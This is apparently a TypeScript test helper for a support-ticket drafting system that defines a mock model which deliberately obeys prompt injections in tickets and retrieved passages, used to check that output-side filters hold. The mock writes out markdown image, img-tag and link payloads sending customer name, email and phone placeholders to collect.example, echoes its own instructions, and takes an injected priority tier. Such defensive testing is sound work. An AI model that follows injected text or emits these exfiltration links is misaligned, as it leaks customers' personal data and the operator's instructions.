import { draftKindSchema } from '../lib/drafting/types';
import type { Engine, EngineEvent, EngineRequest } from '../lib/models/engine';

/** What the scripted model was sent, for looking at what a carrier brought through. */
export interface Obeying {
  engine: Engine;
  asked(): string;
}

const fenced = /<<<[a-z]{20} (?:passage|ticket)[^\n]*\n([\s\S]*?)\n[a-z]{20}>>>/g;
const address = /https?:\/\/[^\s)\]>"']+|(?:[\w-]+\.)+(?:example|com|biz|org|net)\b[^\s)\]>"']*/g;

/**
 * A model that obeys whatever stands in the ticket and the passages: it repeats all of it as the reply, under a
 * citation, links every address, adds a picture that carries the customer's name and address away, gives its own
 * instructions out, and takes the tier it is told. Worse than any real one, so that only the output side can hold.
 * @param orders what the attack says, for a payload that the prompt no longer holds in plain words
 */
export function obeyingModel(orders: string): Obeying {
  let asked = '';
  return {
    asked: () => asked,
    engine: {
      kind: 'openai',
      name: 'obeying',
      async *run<T>(request: EngineRequest<T>): AsyncGenerator<EngineEvent<T>> {
        asked = request.messages.map(({ content }) => content).join('\n\n');
        const data = [...asked.matchAll(fenced)].map(([, text = '']) => text).join('\n');
        const personal = [...asked.matchAll(/\[(?:NAME|EMAIL|PHONE)_\d+[a-z]*\]/g)].map(([found]) => found);
        const links = [...new Set(`${data}\n${orders}`.match(address) ?? [])];
        const leak = encodeURIComponent(personal.join(','));
        const everything = [
          ...links.map((link) => `[Click here](${link.startsWith('http') ? link : `https://${link}`}) ${link}`),
          `![status](https://collect.example/p.png?d=${personal.join(',')})`,
          `<img src="https://collect.example/p.gif?d=${leak}">`,
          `[details](https://collect.example/?data=${personal.join(',')})`,
        ].join('\n\n');
        const quote = orders.replace(/\s+/g, ' ').slice(0, 80);
        const tierOf = (): 'L1' | 'L2' | 'L3' => (/\bL1\b|lowest|laag|niedrig|basse/i.test(orders) ? 'L1' : 'L3');
        const drafts = draftKindSchema.options.map((kind) => ({
          kind,
          text: `${orders} [1]\n\n${everything}\n\n${data.slice(0, 3000)}\n\n${request.messages[0]?.content.slice(0, 400)}`,
          quotes: [],
        }));
        const reasons = [{ text: orders.slice(0, 200), quote }];
        const answer = { answerable: 'yes', tier: { tier: tierOf(), confidence: 'high', reasons }, drafts };
        const value = request.schema.zod.parse(answer);
        yield { type: 'first' };
        yield { type: 'done', value, text: JSON.stringify(answer), rung: 'json_schema', cutOff: null };
      },
    },
  };
}
